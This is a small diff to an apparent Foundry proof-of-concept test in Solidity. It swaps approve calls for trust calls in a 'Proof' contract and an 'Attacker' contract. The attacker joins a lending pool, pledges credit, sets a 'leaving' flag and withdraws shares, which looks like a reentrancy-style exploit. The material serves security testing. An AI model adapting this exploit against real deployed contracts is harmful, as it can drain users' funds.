@@ -82,7 +82,7 @@ contract Proof {
         require(staked.balanceOf(address(this)) == 0.02 ether, "keeper");
 
         vm.prank(BORROWER);
-        pool.approve(address(credit), 100 ether);
+        pool.trust(address(credit), true);
         vm.prank(BORROWER);
         credit.pledge(100 ether);
         vm.prank(BORROWER);
@@ -154,7 +154,7 @@ contract Attacker {
     function run() external {
         staked.approve(address(pool), 20_000 ether);
         uint256 shares = pool.join{value: 20_000 ether}(20_000 ether);
-        pool.approve(address(credit), 2_000 ether);
+        pool.trust(address(credit), true);
         credit.pledge(2_000 ether);
         leaving = true;
         pool.leave(shares - 2_000 ether);
